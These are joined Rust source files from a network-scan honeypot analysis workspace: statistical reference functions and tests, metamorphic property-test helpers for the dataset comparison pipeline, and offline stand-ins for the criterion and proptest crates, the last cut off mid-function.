    (0.90, 1.281_551_565_544_600_4),
    (0.95, 1.644_853_626_951_472_2),
    (0.975, 1.959_963_984_540_054),
    (0.99, 2.326_347_874_040_841),
    (0.995, 2.575_829_303_548_901),
];

#[cfg(test)]
mod tests {
    use super::*;

    fn close(a: f64, b: f64, tol: f64) {
        assert!((a - b).abs() <= tol * b.abs().max(1.0), "{a} vs {b}");
    }

    #[test]
    fn ln_gamma_ref_factorials_and_halves() {
        close(ln_gamma_ref(5.0), (24.0f64).ln(), 1e-14);
        close(ln_gamma_ref(0.5), std::f64::consts::PI.sqrt().ln(), 1e-14);
        // Recurrence Γ(z+1) = zΓ(z) across the shift boundary.
        for z in [0.3, 1.7, 9.5, 19.9, 25.0] {
            close(ln_gamma_ref(z + 1.0), ln_gamma_ref(z) + z.ln(), 1e-13);
        }
    }

    #[test]
    fn erf_routes_agree_at_the_seam() {
        // Taylor (from below) and continued fraction (from above) must
        // agree where the routing switches.
        close(1.0 - erf_taylor(2.0), erfc_contfrac(2.0), 1e-11);
        close(erf_ref(1.0), 0.842_700_792_949_714_9, 1e-13);
        close(erfc_ref(3.0), 2.209_049_699_858_544e-5, 1e-11);
    }

    #[test]
    fn chi2_sf_ref_exact_forms() {
        // df=2 is pure exponential.
        close(chi2_sf_ref(5.0, 2), (-2.5f64).exp(), 1e-15);
        // df=4: e^{-y}(1+y).
        close(chi2_sf_ref(6.0, 4), (-3.0f64).exp() * 4.0, 1e-14);
        // df=1 equals erfc(sqrt(x/2)).
        close(chi2_sf_ref(3.0, 1), erfc_ref((1.5f64).sqrt()), 1e-13);
    }

    #[test]
    fn chi2_quantile_ref_inverts_sf() {
        for df in [1, 2, 3, 4, 5, 10, 24] {
            for alpha in [0.9, 0.5, 0.05, 0.01, 1e-4] {
                let q = chi2_quantile_ref(alpha, df);
                close(chi2_sf_ref(q, df), alpha, 1e-10);
            }
        }
    }

    #[test]
    fn mwu_exact_enumeration_no_ties_matches_table() {
        // n1 = n2 = 3, x all larger: U = 9, P(U >= 9) = 1/C(6,3) = 0.05.
        let p = mwu_exact_p_greater(&[4.0, 5.0, 6.0], &[1.0, 2.0, 3.0]);
        close(p, 0.05, 1e-12);
        // Interleaved ranks: x = {1,4} gives U = 2. Over the C(4,2) = 6
        // label assignments of the pool {1,2,3,4} the U values are
        // {0, 1, 2, 2, 3, 4}, so P(U >= 2) = 4/6.
        let p = mwu_exact_p_greater(&[1.0, 4.0], &[2.0, 3.0]);
        close(p, 2.0 / 3.0, 1e-12);
    }

    #[test]
    fn ks_bruteforce_reference() {
        let d = ks_d_bruteforce(&[1.0, 2.0, 3.0, 4.0], &[3.0, 4.0, 5.0, 6.0]);
        close(d, 0.5, 1e-15);
    }

    #[test]
    fn bruteforce_chi2_textbook() {
        let (stat, df) = chi2_stat_bruteforce(&[vec![10, 20], vec![30, 40]]).unwrap();
        close(stat, 0.793_650_793_650_79, 1e-12);
        assert_eq!(df, 1);
        assert!(chi2_stat_bruteforce(&[vec![5, 0], vec![7, 0]]).is_none());
    }
}
