//! Metamorphic invariants over the dataset → comparison pipeline, plus the
//! reusable proptest strategies the workspace test layer drives them with.
//!
//! A metamorphic test does not know the *right* answer — it knows how the
//! answer must (not) change under a transformation of the input:
//!
//! - **Event-order permutation invariance** — every §3.3 characteristic is
//!   a frequency map, so shuffling event order must leave each comparison
//!   bit-identical ([`shuffled`], [`comparison_fingerprint`]).
//! - **Absorb associativity** — merging worker datasets left-to-right or
//!   right-to-left must produce byte-identical exports ([`fold_left`],
//!   [`fold_right`], [`csv_bytes`]).
//! - **Subsample monotonicity** — an event-prefix's counts are dominated
//!   by the full counts, category by category ([`counts_subsumed`]).
//! - **Thread-count identity** — the fleet contract: `threads = 1` and
//!   `threads = N` merge to the same bytes ([`replicates_csv`]).

use cw_core::compare::{CharKind, GroupComparison};
use cw_core::dataset::{ClassifiedEvent, Dataset};
use cw_core::fleet;
use cw_core::scenario::ScenarioConfig;
use cw_netsim::rng::SimRng;
use proptest::strategy::Strategy;
use proptest::test_runner::TestRng;
use std::collections::BTreeMap;

/// Deterministically shuffle a copy of `items` (Fisher–Yates under
/// [`SimRng`]). Seed 0 is valid; equal seeds give equal permutations.
pub fn shuffled<T: Clone>(items: &[T], seed: u64) -> Vec<T> {
    let mut out = items.to_vec();
    SimRng::seed_from_u64(seed).shuffle(&mut out);
    out
}

/// A comparison's identity as raw bits, so "bit-identical outcome" is a
/// plain `==` (f64 `PartialEq` would treat `-0.0 == 0.0` and NaN oddly;
/// bits are exact).
pub fn comparison_fingerprint(c: &GroupComparison) -> (u64, usize, u64, u64, bool) {
    (
        c.chi2.statistic.to_bits(),
        c.chi2.df,
        c.chi2.p_value.to_bits(),
        c.effect.phi.to_bits(),
        c.significant,
    )
}

/// Extract a characteristic's frequency map from an event subset given by
/// indices — the order of `idx` is the "event order" under test.
pub fn freqs_at(kind: CharKind, events: &[ClassifiedEvent<'_>], idx: &[usize]) -> BTreeMap<String, u64> {
    let subset: Vec<ClassifiedEvent<'_>> = idx.iter().map(|&i| events[i]).collect();
    kind.freqs(&subset)
}

/// Does `sub` count at most what `full` counts, category by category?
/// (The subsample-monotonicity invariant: removing events can only lower
/// or remove counts, never raise them or invent categories.)
pub fn counts_subsumed(sub: &BTreeMap<String, u64>, full: &BTreeMap<String, u64>) -> bool {
    sub.iter()
        .all(|(cat, &c)| full.get(cat).copied().unwrap_or(0) >= c)
}

/// A dataset's CSV export bytes — the byte-identity witness used by the
/// associativity and thread-count invariants.
pub fn csv_bytes(ds: &Dataset) -> Vec<u8> {
    let mut out = Vec::new();
    ds.write_csv(&mut out).expect("in-memory CSV write");
    out
}

/// Left-associated merge: `((a ⊕ b) ⊕ c) ⊕ …` via [`Dataset::absorb`].
pub fn fold_left(parts: Vec<Dataset>) -> Dataset {
    let mut acc = Dataset::empty();
    for p in parts {
        acc.absorb(p);
    }
    acc
}

/// Right-associated merge: `a ⊕ (b ⊕ (c ⊕ …))`.
pub fn fold_right(parts: Vec<Dataset>) -> Dataset {
    let mut acc = Dataset::empty();
    for mut p in parts.into_iter().rev() {
        p.absorb(acc);
        acc = p;
    }
    acc
}

/// CSV bytes of an `n`-replicate fleet merge at a given thread count —
/// the fleet determinism contract says this is independent of `threads`.
pub fn replicates_csv(base: ScenarioConfig, n: usize, threads: usize) -> Vec<u8> {
    csv_bytes(&fleet::run_replicates(base, n, threads).dataset)
}

/// Strategy for one frequency map: up to `max_categories` categories drawn
/// from a fixed alphabet (`cat0`…), with counts in `0..max_count`. Zero
/// counts are kept — the pipeline must treat "category with count 0" and
/// "category absent" identically, and maps that only differ that way are
/// a productive corner.
#[derive(Debug, Clone, Copy)]
pub struct FreqMap {
    /// Largest number of distinct categories per map.
    pub max_categories: usize,
    /// Exclusive upper bound on each category count.
    pub max_count: u64,
}

impl Default for FreqMap {
    fn default() -> Self {
        FreqMap {
            max_categories: 8,
            max_count: 400,
        }
    }
}

impl Strategy for FreqMap {
    type Value = BTreeMap<String, u64>;
    fn sample(&self, rng: &mut TestRng) -> Self::Value {
        let n = 1 + rng.below(self.max_categories as u64) as usize;
        let mut out = BTreeMap::new();
        for _ in 0..n {
            let cat = format!("cat{}", rng.below(self.max_categories as u64));
            let count = rng.below(self.max_count);
            out.insert(cat, count);
        }
        out
    }
}

/// Strategy for `2..=max_groups` frequency maps over a shared category
/// alphabet — the input shape of every §3.3 group comparison.
#[derive(Debug, Clone, Copy)]
pub struct FreqGroups {
    /// Per-map shape.
    pub map: FreqMap,
    /// Largest number of groups (at least 2 are always generated).
    pub max_groups: usize,
}

impl Default for FreqGroups {
    fn default() -> Self {
        FreqGroups {
            map: FreqMap::default(),
            max_groups: 4,
        }
    }
}

impl Strategy for FreqGroups {
    type Value = Vec<BTreeMap<String, u64>>;
    fn sample(&self, rng: &mut TestRng) -> Self::Value {
        let k = 2 + rng.below((self.max_groups - 1) as u64) as usize;
        (0..k).map(|_| self.map.sample(rng)).collect()
    }
}

/// Strategy for an index permutation of `0..n` with `n` in `lo..hi` —
/// pairs a length with a shuffle seed so event-order tests can reorder
/// any collection deterministically.
#[derive(Debug, Clone, Copy)]
pub struct Permutation {
    /// Smallest permuted length.
    pub lo: usize,
    /// Exclusive largest permuted length.
    pub hi: usize,
}

impl Strategy for Permutation {
    type Value = Vec<usize>;
    fn sample(&self, rng: &mut TestRng) -> Self::Value {
        let n = self.lo + rng.below((self.hi - self.lo) as u64) as usize;
        let idx: Vec<usize> = (0..n).collect();
        shuffled(&idx, rng.next_u64())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cw_core::compare::compare_freqs;
    use proptest::prelude::*;

    #[test]
    fn shuffled_is_a_permutation_and_seed_stable() {
        let v: Vec<u32> = (0..50).collect();
        let a = shuffled(&v, 9);
        let b = shuffled(&v, 9);
        assert_eq!(a, b);
        assert_ne!(a, v, "seed 9 must actually move something");
        let mut sorted = a.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, v);
    }

    #[test]
    fn fold_left_right_agree_on_synthetic_datasets() {
        // Three distinct single-capture datasets; both association orders
        // must export byte-identical CSV.
        let mk = |tag: u8| {
            use cw_honeypot::capture::{Capture, ScanEvent};
            let mut cap = Capture::new("m");
            let p = cap.intern_payload(&[b'G', b'E', b'T', b' ', b'/', tag]);
            cap.record(ScanEvent {
                time: cw_netsim::time::SimTime(tag as u64),
                src: std::net::Ipv4Addr::new(100, 0, 0, tag),
                src_asn: cw_netsim::asn::Asn(tag as u32),
                dst: std::net::Ipv4Addr::new(20, 10, 0, 0),
                dst_port: 80,
                observed: cw_honeypot::capture::Observed::Payload(p),
            });
            Dataset::from_captures(&[&cap], &cw_honeypot::deployment::Deployment::standard())
        };
        let left = fold_left(vec![mk(1), mk(2), mk(3)]);
        let right = fold_right(vec![mk(1), mk(2), mk(3)]);
        assert_eq!(csv_bytes(&left), csv_bytes(&right));
    }

    proptest! {
        #[test]
        fn comparisons_ignore_map_iteration_order(groups in FreqGroups::default()) {
            // BTreeMap input already fixes iteration order; the invariant
            // worth checking here is that *cloning* (fresh allocations,
            // same content) cannot perturb the result.
            let cloned: Vec<_> = groups.iter().map(|g| g.iter().map(|(k, &v)| (k.clone(), v)).collect()).collect();
            let a = compare_freqs(CharKind::TopAs, &groups, 0.05, 5);
            let b = compare_freqs(CharKind::TopAs, &cloned, 0.05, 5);
            match (a, b) {
                (None, None) => {}
                (Some(a), Some(b)) => prop_assert_eq!(comparison_fingerprint(&a), comparison_fingerprint(&b)),
                _ => prop_assert!(false, "comparability must not depend on allocation"),
            }
        }

        #[test]
        fn permutation_strategy_yields_permutations(perm in Permutation { lo: 1, hi: 40 }) {
            let mut sorted = perm.clone();
            sorted.sort_unstable();
            let expect: Vec<usize> = (0..perm.len()).collect();
            prop_assert_eq!(sorted, expect);
        }

        #[test]
        fn counts_subsumed_reflexive_and_prefix(m in FreqMap::default()) {
            prop_assert!(counts_subsumed(&m, &m));
            // Halving every count is a valid subsample shape.
            let half: BTreeMap<String, u64> = m.iter().map(|(k, &v)| (k.clone(), v / 2)).collect();
            prop_assert!(counts_subsumed(&half, &m));
        }
    }
}
