//! An offline, zero-dependency stand-in for the [`criterion`] benchmark
//! harness.
//!
//! This workspace builds in hermetic environments with no crates.io access,
//! so the real `criterion` cannot be fetched. This shim implements the API
//! subset the workspace's benches use (`criterion_group!`/`criterion_main!`,
//! `Criterion::bench_function`, benchmark groups with `throughput` and
//! `sample_size`, `Bencher::iter` / `iter_batched`) with a simple
//! wall-clock measurement loop:
//!
//! - each benchmark is warmed up once, then timed over a fixed wall-clock
//!   budget (scaled down when `sample_size` is lowered);
//! - the mean time per iteration is printed, plus derived throughput when
//!   the group declared one;
//! - under `cargo test` (the harness passes `--test`) every benchmark runs
//!   exactly one iteration, as a smoke test.
//!
//! Numbers from this shim are indicative, not statistically rigorous — it
//! exists so `cargo bench` stays useful (and `cargo test` stays green)
//! without network access.
//!
//! [`criterion`]: https://docs.rs/criterion

#![forbid(unsafe_code)]

use std::time::{Duration, Instant};

/// Declared per-iteration work, for derived throughput reporting.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    /// Bytes processed per iteration.
    Bytes(u64),
    /// Elements processed per iteration.
    Elements(u64),
}

/// How much setup output to batch per measured call in
/// [`Bencher::iter_batched`]. The shim runs one setup per call regardless;
/// the variants exist for API compatibility.
#[derive(Debug, Clone, Copy)]
pub enum BatchSize {
    /// Small per-iteration inputs.
    SmallInput,
    /// Large per-iteration inputs.
    LargeInput,
    /// One setup per iteration.
    PerIteration,
}

/// The timing loop handed to each benchmark closure.
pub struct Bencher {
    smoke: bool,
    budget: Duration,
    /// (iterations, total elapsed) of the last `iter`/`iter_batched` call.
    measurement: Option<(u64, Duration)>,
}

impl Bencher {
    /// Time `routine` repeatedly and record the mean.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        // Warm-up (also the smoke-test iteration).
        let warm = Instant::now();
        let _ = routine();
        let once = warm.elapsed();
        if self.smoke {
            self.measurement = Some((1, once));
            return;
        }
        let mut iters: u64 = 0;
        let start = Instant::now();
        while start.elapsed() < self.budget {
            let _ = routine();
            iters += 1;
        }
        self.measurement = Some((iters.max(1), start.elapsed()));
    }

    /// Time `routine` over inputs built by `setup`; setup time is excluded.
    pub fn iter_batched<I, O, S, R>(&mut self, mut setup: S, mut routine: R, _size: BatchSize)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        let mut iters: u64 = 0;
        let mut spent = Duration::ZERO;
        let rounds: u64 = if self.smoke { 1 } else { u64::MAX };
        while iters < rounds && (iters == 0 || spent < self.budget) {
            let input = setup();
            let start = Instant::now();
            let _ = routine(input);
            spent += start.elapsed();
            iters += 1;
        }
        self.measurement = Some((iters.max(1), spent));
    }
}

fn report(name: &str, measurement: Option<(u64, Duration)>, throughput: Option<Throughput>) {
    let Some((iters, elapsed)) = measurement else {
        println!("{name:<40} (no measurement)");
        return;
    };
    let per_iter = elapsed.as_secs_f64() / iters as f64;
    let mut line = format!("{name:<40} {:>12.3} us/iter ({iters} iters)", per_iter * 1e6);
    match throughput {
        Some(Throughput::Bytes(b)) => {
            line.push_str(&format!(
                "  {:>10.1} MiB/s",
                b as f64 / per_iter / (1024.0 * 1024.0)
            ));
        }
        Some(Throughput::Elements(n)) => {
            line.push_str(&format!("  {:>12.0} elem/s", n as f64 / per_iter));
        }
        None => {}
    }
    println!("{line}");
}

/// The benchmark registry/driver (a subset of criterion's `Criterion`).
pub struct Criterion {
    smoke: bool,
    budget: Duration,
}

impl Default for Criterion {
    fn default() -> Self {
        // `cargo test` runs bench targets with `--test`; `cargo bench`
        // passes `--bench`. Smoke mode runs each benchmark once.
        let smoke = std::env::args().any(|a| a == "--test");
        Criterion {
            smoke,
            budget: Duration::from_millis(300),
        }
    }
}

impl Criterion {
    /// Run a standalone benchmark.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, name: &str, mut f: F) -> &mut Self {
        let mut b = Bencher {
            smoke: self.smoke,
            budget: self.budget,
            measurement: None,
        };
        f(&mut b);
        report(name, b.measurement, None);
        self
    }

    /// Open a named group of related benchmarks.
    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        println!("group: {name}");
        BenchmarkGroup {
            parent: self,
            throughput: None,
            sample_size: None,
        }
    }
}

/// A group of benchmarks sharing throughput/sample-size settings.
pub struct BenchmarkGroup<'a> {
    parent: &'a mut Criterion,
    throughput: Option<Throughput>,
    sample_size: Option<usize>,
}

impl BenchmarkGroup<'_> {
    /// Declare per-iteration work for throughput reporting.
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Lower the sampling effort (shrinks the shim's wall-clock budget).
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = Some(n);
        self
    }

    /// Run one benchmark in the group.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, name: &str, mut f: F) -> &mut Self {
        // Reduced sample sizes signal expensive routines: shrink the budget
        // so a whole-scenario bench doesn't run for minutes.
        let budget = match self.sample_size {
            Some(n) if n < 100 => self.parent.budget,
            _ => self.parent.budget * 2,
        };
        let mut b = Bencher {
            smoke: self.parent.smoke,
            budget,
            measurement: None,
        };
        f(&mut b);
        report(&format!("  {name}"), b.measurement, self.throughput);
        self
    }

    /// Close the group.
    pub fn finish(self) {}
}

/// Group benchmark functions under one registration entry point.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut c = $crate::Criterion::default();
            $($target(&mut c);)+
        }
    };
}

/// Emit `main` running the given groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}
