//! An offline, zero-dependency stand-in for the [`proptest`] crate.
//!
//! This workspace builds in hermetic environments with no crates.io access,
//! so the real `proptest` cannot be fetched. This shim implements the exact
//! API subset the workspace's property tests use, with the same semantics a
//! reader of those tests expects:
//!
//! - the [`proptest!`] macro (including `#![proptest_config(..)]` and
//!   multiple `#[test]` functions per block);
//! - [`prop_assert!`], [`prop_assert_eq!`], [`prop_assume!`];
//! - `any::<T>()` for the integer primitives and `bool`;
//! - range strategies (`0u64..500`, `8u8..=32`, `0.0f64..100.0`, …);
//! - [`collection::vec`] with exact or ranged sizes;
//! - [`sample::select`] and [`strategy::Just`];
//! - `&str` regex strategies for the literal/class/`{m,n}` subset used in
//!   the tests (e.g. `"[a-zA-Z0-9_.-]{1,16}"`, `"[ -~&&[^\r\n]]{0,40}"`).
//!
//! Differences from real proptest, by design:
//!
//! - **No shrinking.** A failing case panics with the sampled arguments so
//!   it can be reproduced by reading the message, not minimized.
//! - **Deterministic seeding.** The RNG seed is derived from the test's
//!   module path and name, so a failure reproduces on every run and on
//!   every machine. Set `PROPTEST_CASES` to change the case count
//!   (default 256).
//!
//! [`proptest`]: https://docs.rs/proptest

#![forbid(unsafe_code)]

/// Test-case driving machinery: the deterministic RNG, the per-test
/// configuration, and the case outcome type.
pub mod test_runner {
    /// Why a sampled case did not pass.
    #[derive(Debug)]
    pub enum TestCaseError {
        /// The case was rejected by `prop_assume!` — resample, don't count.
        Reject,
        /// A `prop_assert!`-family assertion failed.
        Fail(String),
    }

    /// Per-test configuration (a subset of proptest's `Config`).
    #[derive(Debug, Clone)]
    pub struct Config {
        /// Number of accepted cases to run per test.
        pub cases: u32,
    }

    impl Config {
        /// A config running `cases` cases.
        pub fn with_cases(cases: u32) -> Self {
            Config { cases }
        }
    }

    impl Default for Config {
        fn default() -> Self {
            let cases = std::env::var("PROPTEST_CASES")
                .ok()
                .and_then(|v| v.trim().parse().ok())
                .unwrap_or(256);
            Config { cases }
        }
    }

    /// The deterministic generator handed to strategies (SplitMix64).
    #[derive(Debug, Clone)]
    pub struct TestRng {
        state: u64,
    }

    impl TestRng {
        /// Seed from a raw value.
        pub fn new(seed: u64) -> Self {
            TestRng { state: seed }
        }

        /// Seed deterministically from a test's full name.
        pub fn for_test(name: &str) -> Self {
            // FNV-1a over the name, so every test gets its own stream.
            let mut h: u64 = 0xCBF2_9CE4_8422_2325;
            for b in name.bytes() {
                h ^= b as u64;
                h = h.wrapping_mul(0x0000_0100_0000_01B3);
            }
            TestRng { state: h }
        }

        /// Next 64 pseudo-random bits.
        pub fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }

        /// Uniform integer in `[0, n)`; `n` must be positive.
        pub fn below(&mut self, n: u64) -> u64 {
            assert!(n > 0, "below(0)");
            // Multiply-shift; bias is < 2^-64 * n, irrelevant for testing.
            ((self.next_u64() as u128 * n as u128) >> 64) as u64
        }

        /// Uniform `f64` in `[0, 1)`.
        pub fn unit_f64(&mut self) -> f64 {
            (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
        }
    }
}

/// The [`Strategy`](strategy::Strategy) trait and primitive strategies.
pub mod strategy {
    use crate::test_runner::TestRng;

    /// A recipe for generating values of one type.
    ///
    /// Unlike real proptest there is no value tree: `sample` draws a fresh
    /// value and failures are not shrunk.
    pub trait Strategy {
        /// The type of generated values.
        type Value;
        /// Draw one value.
        fn sample(&self, rng: &mut TestRng) -> Self::Value;
    }

    /// Strategy producing one fixed value.
    #[derive(Debug, Clone)]
    pub struct Just<T: Clone>(pub T);

    impl<T: Clone> Strategy for Just<T> {
        type Value = T;
        fn sample(&self, _rng: &mut TestRng) -> T {
            self.0.clone()
        }
    }

    macro_rules! int_range_strategy {
        ($($t:ty),*) => {$(
            impl Strategy for ::std::ops::Range<$t> {
                type Value = $t;
                fn sample(&self, rng: &mut TestRng) -> $t {
                    assert!(self.start < self.end, "empty range strategy");
                    let span = (self.end as i128 - self.start as i128) as u64;
                    (self.start as i128 + rng.below(span) as i128) as $t
                }
            }
            impl Strategy for ::std::ops::RangeInclusive<$t> {
                type Value = $t;
                fn sample(&self, rng: &mut TestRng) -> $t {
                    let (lo, hi) = (*self.start(), *self.end());
                    assert!(lo <= hi, "empty range strategy");
                    let span = (hi as i128 - lo as i128) as u64;
                    let off = if span == u64::MAX { rng.next_u64() } else { rng.below(span + 1) };
                    (lo as i128 + off as i128) as $t
                }
            }
        )*};
    }
    int_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Strategy for ::std::ops::Range<f64> {
        type Value = f64;
        fn sample(&self, rng: &mut TestRng) -> f64 {
            assert!(self.start < self.end, "empty range strategy");
            self.start + rng.unit_f64() * (self.end - self.start)
        }
    }

    impl Strategy for ::std::ops::Range<f32> {
        type Value = f32;
        fn sample(&self, rng: &mut TestRng) -> f32 {
            assert!(self.start < self.end, "empty range strategy");
            self.start + (rng.unit_f64() as f32) * (self.end - self.start)
        }
    }

    /// `&str` literals are regex strategies (the subset in [`crate::string`]).
    impl Strategy for &str {
        type Value = String;
        fn sample(&self, rng: &mut TestRng) -> String {
            crate::string::sample_regex(self, rng)
        }
    }
}

/// `any::<T>()` — uniform values over a whole primitive type.
pub mod arbitrary {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;
    use std::marker::PhantomData;

    /// Types with a canonical "whole domain" strategy.
    pub trait Arbitrary: Sized {
        /// Draw a uniform value of the type.
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    macro_rules! arbitrary_int {
        ($($t:ty),*) => {$(
            impl Arbitrary for $t {
                fn arbitrary(rng: &mut TestRng) -> $t {
                    rng.next_u64() as $t
                }
            }
        )*};
    }
    arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> bool {
            rng.next_u64() & 1 == 1
        }
    }

    impl Arbitrary for u128 {
        fn arbitrary(rng: &mut TestRng) -> u128 {
            (rng.next_u64() as u128) << 64 | rng.next_u64() as u128
        }
    }

    /// The strategy returned by [`any`].
    #[derive(Debug)]
    pub struct Any<T>(PhantomData<T>);

    impl<T: Arbitrary> Strategy for Any<T> {
        type Value = T;
        fn sample(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }

    /// The whole-domain strategy for `T`.
    pub fn any<T: Arbitrary>() -> Any<T> {
        Any(PhantomData)
    }
}

/// Collection strategies (`vec`).
pub mod collection {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    /// An element-count specification: exact, `lo..hi`, or `lo..=hi`.
    #[derive(Debug, Clone, Copy)]
    pub struct SizeRange {
        lo: usize,
        hi_inclusive: usize,
    }

    impl From<usize> for SizeRange {
        fn from(n: usize) -> Self {
            SizeRange { lo: n, hi_inclusive: n }
        }
    }

    impl From<::std::ops::Range<usize>> for SizeRange {
        fn from(r: ::std::ops::Range<usize>) -> Self {
            assert!(r.start < r.end, "empty size range");
            SizeRange { lo: r.start, hi_inclusive: r.end - 1 }
        }
    }

    impl From<::std::ops::RangeInclusive<usize>> for SizeRange {
        fn from(r: ::std::ops::RangeInclusive<usize>) -> Self {
            SizeRange { lo: *r.start(), hi_inclusive: *r.end() }
        }
    }

    /// Strategy for `Vec<S::Value>` with a size drawn from a [`SizeRange`].
    #[derive(Debug)]
    pub struct VecStrategy<S> {
        element: S,
        size: SizeRange,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn sample(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let span = (self.size.hi_inclusive - self.size.lo) as u64;
            let len = self.size.lo + if span == 0 { 0 } else { rng.below(span + 1) as usize };
            (0..len).map(|_| self.element.sample(rng)).collect()
        }
    }

    /// Generate vectors whose elements come from `element` and whose length
    /// is drawn from `size`.
    pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy { element, size: size.into() }
    }
}

/// Sampling strategies (`select`).
pub mod sample {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    /// Strategy choosing uniformly from a fixed list.
    #[derive(Debug, Clone)]
    pub struct Select<T: Clone>(Vec<T>);

    impl<T: Clone> Strategy for Select<T> {
        type Value = T;
        fn sample(&self, rng: &mut TestRng) -> T {
            assert!(!self.0.is_empty(), "select from empty list");
            self.0[rng.below(self.0.len() as u64) as usize].clone()
        }
    }

    /// Choose uniformly from `options`.
    pub fn select<T: Clone>(options: Vec<T>) -> Select<T> {
        Select(options)
    }
}

/// Generation of strings from the regex subset the workspace tests use.
///
/// Supported grammar: a sequence of atoms, each an escaped or literal
/// character, `.` (any printable ASCII), or a `[class]`; every atom may
/// carry a `{m}` / `{m,n}` repetition. Classes support literals, ranges
/// (`a-z`, ` -~`), escapes (`\r`, `\n`, `\t`, `\\`), leading `^` negation,
/// and the `&&[^...]` intersection form (e.g. `[ -~&&[^\r\n]]`).
pub mod string {
    use crate::test_runner::TestRng;

    /// 7-bit character set.
    #[derive(Clone)]
    struct CharSet([bool; 128]);

    impl CharSet {
        fn none() -> Self {
            CharSet([false; 128])
        }
        fn printable() -> Self {
            let mut s = CharSet::none();
            for c in 0x20..=0x7E {
                s.0[c] = true;
            }
            s
        }
        fn single(c: u8) -> Self {
            let mut s = CharSet::none();
            s.0[(c & 0x7F) as usize] = true;
            s
        }
        fn add_range(&mut self, lo: u8, hi: u8) {
            for c in lo..=hi {
                self.0[(c & 0x7F) as usize] = true;
            }
        }
        fn intersect(&mut self, other: &CharSet) {
            for i in 0..128 {
                self.0[i] = self.0[i] && other.0[i];
            }
        }
        fn negate_within_printable(&self) -> CharSet {
            let mut out = CharSet::none();
            for i in 0x20..=0x7E {
                out.0[i] = !self.0[i];
            }
            out
        }
        fn members(&self) -> Vec<u8> {
            (0..128u8).filter(|&c| self.0[c as usize]).collect()
        }
    }

    struct Atom {
        set: CharSet,
        min: usize,
        max: usize,
    }

    fn parse_escape(bytes: &[u8], i: &mut usize) -> u8 {
        *i += 1; // consume '\\'
        let c = bytes[*i];
        *i += 1;
        match c {
            b'r' => b'\r',
            b'n' => b'\n',
            b't' => b'\t',
            b'0' => 0,
            other => other,
        }
    }

    /// Parse a `[...]` class starting at the opening bracket.
    fn parse_class(bytes: &[u8], i: &mut usize) -> CharSet {
        *i += 1; // consume '['
        let negated = bytes.get(*i) == Some(&b'^');
        if negated {
            *i += 1;
        }
        let mut set = CharSet::none();
        let mut negset: Option<CharSet> = None;
        while *i < bytes.len() && bytes[*i] != b']' {
            // Intersection form `&&[^...]`.
            if bytes[*i] == b'&' && bytes.get(*i + 1) == Some(&b'&') {
                *i += 2;
                assert!(
                    bytes.get(*i) == Some(&b'['),
                    "class intersection must be `&&[...]`"
                );
                negset = Some(parse_class(bytes, i));
                continue;
            }
            let lo = if bytes[*i] == b'\\' {
                parse_escape(bytes, i)
            } else {
                let c = bytes[*i];
                *i += 1;
                c
            };
            // A range `lo-hi` (a trailing '-' is a literal).
            if bytes.get(*i) == Some(&b'-') && bytes.get(*i + 1).is_some_and(|&c| c != b']') {
                *i += 1;
                let hi = if bytes[*i] == b'\\' {
                    parse_escape(bytes, i)
                } else {
                    let c = bytes[*i];
                    *i += 1;
                    c
                };
                set.add_range(lo, hi);
            } else {
                set.add_range(lo, lo);
            }
        }
        assert!(bytes.get(*i) == Some(&b']'), "unterminated character class");
        *i += 1; // consume ']'
        if let Some(n) = negset {
            // `parse_class` already applied the inner '^', so `n` is the set
            // of characters to keep.
            set.intersect(&n);
        }
        if negated {
            set.negate_within_printable()
        } else {
            set
        }
    }

    fn parse_quantifier(bytes: &[u8], i: &mut usize) -> (usize, usize) {
        if bytes.get(*i) != Some(&b'{') {
            return (1, 1);
        }
        *i += 1;
        let mut min = 0usize;
        while bytes[*i].is_ascii_digit() {
            min = min * 10 + (bytes[*i] - b'0') as usize;
            *i += 1;
        }
        let max = if bytes[*i] == b',' {
            *i += 1;
            let mut m = 0usize;
            while bytes[*i].is_ascii_digit() {
                m = m * 10 + (bytes[*i] - b'0') as usize;
                *i += 1;
            }
            m
        } else {
            min
        };
        assert!(bytes[*i] == b'}', "unterminated quantifier");
        *i += 1;
        (min, max)
    }

    fn parse(pattern: &str) -> Vec<Atom> {
        let bytes = pattern.as_bytes();
        let mut atoms = Vec::new();
        let mut i = 0usize;
        while i < bytes.len() {
            let set = match bytes[i] {
                b'[' => parse_class(bytes, &mut i),
                b'.' => {
                    i += 1;
                    CharSet::printable()
                }
                b'\\' => CharSet::single(parse_escape(bytes, &mut i)),
                c => {
                    i += 1;
                    CharSet::single(c)
                }
            };
            let (min, max) = parse_quantifier(bytes, &mut i);
